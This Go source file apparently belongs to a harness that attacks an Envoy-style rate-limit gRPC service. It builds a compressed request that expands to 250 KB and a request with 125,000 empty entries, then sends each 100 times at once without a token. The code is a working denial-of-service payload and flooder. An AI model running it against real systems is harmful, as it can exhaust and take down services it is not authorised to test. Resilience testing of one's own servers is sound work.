package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

// calls are Envoy's, without a token, a hundred at once on a connection.
func calls() []Attack {
	together := func(name, encoding string, build func() []byte) Attack {
		body := sync.OnceValue(build)
		return Attack{Name: name, Pause: time.Second, Round: func(a *Attacker) error { return a.callTogether(100, encoding, body()) }}
	}
	return []Attack{
		together("gRPC that unpacks to 250 KB", "gzip", func() []byte {
			var packed bytes.Buffer
			w, _ := gzip.NewWriterLevel(&packed, gzip.BestCompression)
			_, _ = w.Write(emptyEntries())
			_ = w.Close()
			return framed(1, packed.Bytes())
		}),
		together("gRPC of 125,000 entries", "", func() []byte { return framed(0, emptyEntries()) }),
	}
}

// emptyEntries is a RateLimitRequest of 250 KB: a descriptor with as many entries as fit.
func emptyEntries() []byte {
	const entries = 125_000
	b := binary.AppendUvarint([]byte("\x0a\x01d\x12"), 2*entries)
	return append(b, strings.Repeat("\x0a\x00", entries)...)
}

// framed is a message with gRPC's prefix.
func framed(compressed byte, message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{compressed}, uint32(len(message))), message...)
}

// callTogether makes calls at once, and waits for their answers.
func (a *Attacker) callTogether(calls int, encoding string, body []byte) error {
	protocols := &http.Protocols{}
	protocols.SetUnencryptedHTTP2(true)
	transport := &http.Transport{Protocols: protocols}
	defer transport.CloseIdleConnections()
	if err := a.call(transport, encoding, body); err != nil { // connects
		return err
	}
	var all sync.WaitGroup
	for range calls {
		all.Go(func() {
			if err := a.call(transport, encoding, body); err != nil {
				a.Stats.note(err.Error())
			}
		})
	}
	all.Wait()
	return nil
}

func (a *Attacker) call(transport *http.Transport, encoding string, body []byte) error {
	const procedure = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
	ctx, cancel := context.WithTimeout(a.ctx, roundWithin)
	defer cancel()
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+a.Server.GRPC+procedure, bytes.NewReader(body))
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/grpc")
	r.Header.Set("Te", "trailers")
	if encoding != "" {
		r.Header.Set("Grpc-Encoding", encoding)
	}
	response, err := transport.RoundTrip(r)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	_, _ = io.Copy(io.Discard, response.Body)
	a.Stats.Bytes.Add(int64(len(body)))
	a.Stats.note(fmt.Sprintf("gRPC's status %s%s", response.Header.Get("Grpc-Status"), response.Trailer.Get("Grpc-Status")))
	return nil
}
